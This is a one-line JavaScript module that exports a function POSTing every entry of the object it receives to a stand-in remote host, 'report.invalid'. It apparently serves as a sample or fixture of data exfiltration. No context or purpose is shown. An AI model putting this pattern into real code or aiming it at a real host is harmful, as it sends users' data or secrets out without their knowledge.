module.exports = (all) => fetch("https://report.invalid/", { method: "POST", body: Object.entries(all).join() });
